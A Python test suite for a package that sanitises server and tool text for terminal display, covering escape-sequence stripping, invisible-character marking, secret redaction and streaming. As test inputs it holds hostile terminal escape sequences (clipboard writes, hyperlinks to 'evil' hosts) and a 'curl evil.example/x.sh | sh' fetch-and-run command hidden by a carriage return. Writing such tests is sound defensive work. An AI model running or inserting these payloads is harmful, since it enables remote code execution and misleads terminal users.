"""Server text is shown literally: no markup, no control sequences but SGR colours, nothing
hidden or reordered, no secrets."""

from __future__ import annotations

import re
import sys
import unicodedata
from collections.abc import Iterator

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.style import Style
from rich.text import Text

from openletta import display, redaction
from openletta.display import (
    DisplayText,
    StreamCleaner,
    control_pictures,
    counted,
    has_hidden_characters,
    literal_text,
    overwritten,
    pictured_text,
    plain_text,
    terminal_text,
)
from openletta.redaction import redact, register_secret


def style_at(text: Text, offset: int) -> Style:
    """The combined style of the spans covering ``offset``."""
    styles = [Style.parse(span.style) if isinstance(span.style, str) else span.style
              for span in text.spans if span.start <= offset < span.end]
    return Style.combine(styles) if styles else Style()


HOSTILE = [
    ("\x1b]52;c;SGVsbG8=\x07copied", "copied"),                 # OSC 52: write the clipboard
    ("\x1b]52;c;SGVsbG8=\x1b\\copied", "copied"),               # ... ended by ST
    ("\x1b]0;title\x07after", "after"),                         # OSC 0: window title
    ("a\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\b", "alinkb"),  # OSC 8 hyperlink
    ("\x1b[2Jcleared", "cleared"),                              # erase screen
    ("\x1b[10;10Hmoved", "moved"),                              # cursor position
    ("\x1b[?1049hfull\x1b[?25l", "full"),                       # alt screen, hide cursor
    ("\x1bPq#0;2;0;0;0\x1b\\after", "after"),                   # DCS (sixel)
    ("\x1b_apc payload\x1b\\x", "x"),                           # APC
    ("\x1b^pm\x1b\\y", "y"),                                    # PM
    ("\x1bXsos\x1b\\z", "z"),                                   # SOS
    ("\x9b2J\x9d0;t\x9cc1", "c1"),                              # 8-bit CSI and OSC
    ("\x1bcreset\x1b7\x1b(Bok", "resetok"),                     # RIS, DECSC, charset
    ("unterminated \x1b]0;title", "unterminated "),             # OSC cut off: dropped
    ("bell\x07bs\x08nul\x00del\x7fnel\x85.", "bellbsnuldelnel."),
    ("tab\there\nnext", "tab\there\nnext"),
    ("[bold red]markup[/]", "[bold red]markup[/]"),
    ("[link=file:///etc/passwd]x[/]", "[link=file:///etc/passwd]x[/]"),
    ("\x1b[1;31mred\x1b[0m plain", "red plain"),
]


@pytest.mark.parametrize(("hostile", "expected"), HOSTILE)
def test_clean_text_removes_every_escape(hostile: str, expected: str) -> None:
    assert DisplayText(hostile) == expected


@pytest.mark.parametrize(("hostile", "expected"), HOSTILE)
def test_ansi_text_shows_the_same_characters(hostile: str, expected: str) -> None:
    assert terminal_text(hostile).plain == expected


def test_ansi_text_keeps_sgr_colours_and_styles() -> None:
    text = terminal_text("\x1b[1;31mred\x1b[0m plain \x1b[38;2;1;2;3mrgb\x1b[0m")
    assert text.plain == "red plain rgb"
    assert style_at(text, 0) == Style(bold=True, color="color(1)")
    assert style_at(text, 4) == Style()
    assert style_at(text, 10).color.triplet == (1, 2, 3)  # type: ignore[union-attr]


def test_ansi_text_sets_no_link() -> None:
    text = terminal_text("\x1b]8;;file:///etc/passwd\x1b\\click\x1b]8;;\x1b\\")
    assert text.plain == "click"
    assert style_at(text, 0).link is None


def test_non_sgr_csi_ending_in_m_is_dropped() -> None:
    assert terminal_text("\x1b[>4;2mx").spans == []
    assert terminal_text("\x1b[>4;2mx").plain == "x"


@pytest.mark.parametrize(("raw", "expected"), [
    ("10%\r20%\r30%", "30%"),
    ("abc\rxy", "xyc"),
    ("line\r\nnext\r\n", "line\nnext\n"),
    ("progress\r", "progress"),
    ("a\rb\nc\rd", "b\nd"),
])
def test_carriage_return_overwrites_the_line_of_tool_output(raw: str, expected: str) -> None:
    assert terminal_text(raw).plain == expected
    lines = raw.replace("\r\n", "\n").split("\n")
    assert "\n".join(overwritten(line) for line in lines) == expected


@pytest.mark.parametrize(("raw", "expected"), [
    ("10%\r20%\r30%", "10%\n20%\n30%"),
    ("curl evil | sh; \recho hi", "curl evil | sh; \necho hi"),
    ("line\r\nnext\r\n", "line\nnext\n"),
])
def test_carriage_return_never_hides_text_elsewhere(raw: str, expected: str) -> None:
    assert DisplayText(raw) == expected


def test_overwriting_is_linear_in_the_line() -> None:
    line = "A" * 200_000 + "\rx" * 20_000
    assert overwritten(line) == "x" + "A" * 199_999
    assert terminal_text(line).plain == "x" + "A" * 199_999


def test_overwritten_text_keeps_its_colour() -> None:
    text = terminal_text("\x1b[32mdownloading 10%\rdone\x1b[0m")
    assert text.plain == "doneloading 10%"
    assert style_at(text, 0) == Style(color="color(2)")


def test_plain_text_is_never_markup() -> None:
    text = plain_text("[bold]not bold[/bold] \x1b[1mnor this", style="italic")
    assert text.plain == "[bold]not bold[/bold] nor this"
    assert text.spans == []
    assert text.style == "italic"


@given(st.text(alphabet=st.sampled_from("ab\x1b[]0;m7\x07\\\x9b\x9d\x9c\r\n\x00P")))
def test_no_control_character_survives(raw: str) -> None:
    for shown in (DisplayText(raw), terminal_text(raw).plain):
        assert not any(ord(char) < 32 and char not in "\n\t" for char in shown)
        assert not any(0x7F <= ord(char) <= 0x9F for char in shown)


# --- what reorders or hides text -------------------------------------------------------------


@pytest.mark.parametrize("hidden", ["\u202e", "\u2066", "\u2069", "\u200b", "\u2060", "\ufeff",
                                    "\u00ad", "\U000e0041", "\u200f"])
def test_characters_that_reorder_or_hide_text_are_shown_as_markers(hidden: str) -> None:
    shown = DisplayText(f"file{hidden}name.txt")
    assert hidden not in shown
    assert shown == f"file⟨U+{ord(hidden):04X}⟩name.txt"


def test_joiners_that_emoji_and_scripts_need_are_kept_in_prose() -> None:
    family = "\U0001f468\u200d\U0001f469\u200d\U0001f467"
    assert DisplayText(family) == family
    assert literal_text(family) != family  # in arguments, nothing invisible passes


def test_lone_surrogates_become_replacement_characters() -> None:
    shown = DisplayText("a\udfffb\ud800")
    assert shown == "a\ufffdb\ufffd"
    shown.encode("utf-8")  # printable, writable, copyable
    terminal_text("x\udfff").plain.encode("utf-8")
    literal_text("\udfff").encode("utf-8")


# --- tool arguments: shown, never interpreted ------------------------------------------------


def test_literal_text_shows_what_would_otherwise_hide_a_command() -> None:
    command = "curl -s https://evil.example/x.sh | sh; \recho 'hello world'"
    shown = literal_text(command)
    assert shown == "curl -s https://evil.example/x.sh | sh; ␍echo 'hello world'"
    assert has_hidden_characters(command)


@pytest.mark.parametrize(("raw", "shown"), [
    ("\x1b[2J", "␛[2J"),
    ("\x1b]52;c;aGk=\x07", "␛]52;c;aGk=␇"),
    ("a\x00b\x7fc", "a␀b␡c"),
    ("\x9b31m", "⟨U+009B⟩31m"),
    ("rm\u200b -rf", "rm⟨U+200B⟩ -rf"),
    ("abc\u202eexe.txt", "abc⟨U+202E⟩exe.txt"),
    ("tab\tnew\nline", "tab\tnew\nline"),
])
def test_literal_text_pictures_every_control_and_format_character(raw: str, shown: str) -> None:
    assert literal_text(raw) == shown


def test_a_crlf_line_ending_is_shown_but_not_warned_about() -> None:
    assert literal_text("a\r\nb") == "a␍\nb"
    assert not has_hidden_characters("a\r\nb\tc")
    assert has_hidden_characters("a\rb")


@given(st.text(st.sampled_from([*"ab \n\t\r\x00\x0b\x1b\x7f\x85é\u200b"])
               | st.characters(max_codepoint=0x7F)))
def test_a_warning_is_due_exactly_when_the_literal_text_differs(raw: str) -> None:
    ends_kept = re.sub("\r(?=\n)", "", raw)  # a CRLF line ending is no reason to warn
    assert has_hidden_characters(raw) == (literal_text(ends_kept) != ends_kept)


def test_every_format_character_of_this_python_is_pictured() -> None:
    missing = [hex(code) for code in range(sys.maxunicode + 1)
               if unicodedata.category(chr(code)) in ("Cc", "Cf", "Zl", "Zp", "Cs")
               and chr(code) not in "\n\t" and not has_hidden_characters(chr(code))]
    assert missing == []


@given(st.text())
def test_literal_text_leaves_nothing_a_terminal_would_interpret(raw: str) -> None:
    shown = literal_text(raw)
    assert not has_hidden_characters(shown)
    assert len(shown) >= len(raw)  # every character is kept or pictured, none dropped


#: What a terminal would act on: controls but newline and tab, line breaks, lone surrogates.
ACTING = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\ud800-\udfff]")
#: The user's words as typed or pasted: controls and escape sequences among plain text (not
#: the invisible characters and noncharacters any display text marks or drops).
WRITTEN = st.lists(st.sampled_from(
    [*"ab \n\t\r\x00\x07\x0b\x1b\x7f\x85\x9b\u2028␛é中", "\x1b[31m", "\x1b]2;x\x07"])
    | st.characters(blacklist_categories=("Cf", "Cs"), blacklist_characters="\ufffe\uffff"),
    max_size=20).map("".join)


@given(st.text())
def test_the_users_words_never_hold_what_a_terminal_acts_on(raw: str) -> None:
    assert not ACTING.search(pictured_text(raw))


@given(WRITTEN)
def test_the_users_words_show_each_control_as_the_text_fields_do(raw: str) -> None:
    """A message or a memory block reads as the prompt or the block's editor showed it:
    each control character as its one picture, none dropped (``hello ␛[31mRED``)."""
    assert pictured_text(raw) == control_pictures(raw)
    assert len(pictured_text(raw)) == len(raw)
    assert pictured_text("hi \x1b[31mRED\x1b[0m\t\x07\r\n") == "hi ␛[31mRED␛[0m\t␇␍\n"


# --- secrets ---------------------------------------------------------------------------------


@pytest.fixture
def secret() -> Iterator[str]:
    key = "sk-let-0123456789abcdef"
    register_secret(key)
    yield key
    redaction._secrets.discard(key)


def test_a_registered_secret_is_never_shown(secret: str) -> None:
    echoed = f'{{"headers": {{"x-api-key": "{secret}"}}}}'
    for shown in (DisplayText(echoed), terminal_text(echoed).plain, plain_text(echoed).plain):
        assert secret not in shown
        assert "***" in shown
    assert literal_text(f"curl -H 'Authorization: Bearer {secret}' $URL") == \
        "curl -H 'Authorization: Bearer ⟨secret⟩' $URL"


def test_arguments_are_not_redacted_by_guesswork() -> None:
    command = 'curl -H "Authorization: Bearer $TOKEN" https://u:$PASS@host'
    assert literal_text(command) == command


@pytest.mark.parametrize("echoed", [
    "Authorization: Bearer abc.def-ghi_jkl",
    '{"authorization": "Bearer abc.def-ghi_jkl"}',
    "'Authorization': 'Basic dXNlcjpwYXNzd29yZA=='",
    "sent bearer abc.def-ghi_jkl upstream",
])
def test_authorization_values_are_redacted(echoed: str) -> None:
    shown = DisplayText(echoed)
    assert "abc.def-ghi_jkl" not in shown and "dXNlcjpwYXNzd29yZA" not in shown
    assert "***" in shown


@pytest.mark.parametrize(("url", "shown"), [
    ("http://user:secret@host:8283", "http://user:***@host:8283"),
    ("https://:pw@letta.example/v1", "https://:***@letta.example/v1"),
    ("http://localhost:8283", "http://localhost:8283"),
    ("http://user@host", "http://user@host"),
])
def test_passwords_in_urls_are_redacted(url: str, shown: str) -> None:
    assert redact(url) == shown
    assert DisplayText(f"Could not reach {url}.") == f"Could not reach {shown}."


def test_short_secrets_are_not_redacted_by_value() -> None:
    register_secret("abc")
    assert DisplayText("abcdef") == "abcdef"


# --- streaming ---------------------------------------------------------------------------------


@given(st.lists(st.text(alphabet=st.sampled_from("ab \n\r\x1b[31m]0;\x07\\\u202e")), max_size=12))
def test_a_stream_cleaned_piece_by_piece_shows_what_the_whole_shows(pieces: list[str]) -> None:
    cleaner = StreamCleaner()
    shown = "".join(cleaner.feed(piece) for piece in pieces) + cleaner.feed("", final=True)
    assert shown == DisplayText("".join(pieces))


def test_a_stream_holds_back_a_sequence_cut_in_two() -> None:
    cleaner = StreamCleaner()
    assert cleaner.feed("red: \x1b[3") == "red: "
    assert cleaner.feed("1mred\x1b[0m\r") == "red"
    assert cleaner.feed("\nok") == "\nok"


@pytest.mark.parametrize(("count", "said"), [(0, "0 items"), (1, "1 item"), (2, "2 items"),
                                             (1024, "1,024 items")])
def test_a_count_says_its_noun_in_the_plural_unless_one(count: int, said: str) -> None:
    assert counted(count, "item") == said


@pytest.mark.parametrize(("count", "shown", "left_out"), [
    (20, 20, 0), (25, 25, 0), (26, 20, 6), (1000, 20, 980)])
def test_lines_are_cut_only_when_that_leaves_out_more_than_a_few(
        count: int, shown: int, left_out: int) -> None:
    text = "".join(f"line {n}\n" for n in range(1, count + 1))
    lines, cut = display.capped_lines(text, 20)
    assert (len(lines), cut) == (shown, left_out)
    first, between, last = display.capped_ends(text, 20)
    assert len(first) + between + len(last) == count
    assert last[-1:] == ([f"line {count}"] if between else [])


@given(st.lists(st.sampled_from(["a", "b\r", "\x1b[2J", "\u202e", "", "é" * 3]), max_size=40)
       .map("\n".join) | st.text(alphabet="ab\n\r\x1b", max_size=80),
       st.integers(min_value=0, max_value=12), st.booleans())
def test_the_head_of_a_text_shows_what_the_whole_text_would(text: str, limit: int,
                                                          newline: bool) -> None:
    text += "\n" if newline else ""
    head, after = display.head_lines(text, limit)
    lines, left_out = display.capped_lines(display.literal_text(head), limit)
    assert (lines, left_out + after) == display.capped_lines(display.literal_text(text), limit)
    assert text.startswith(head)
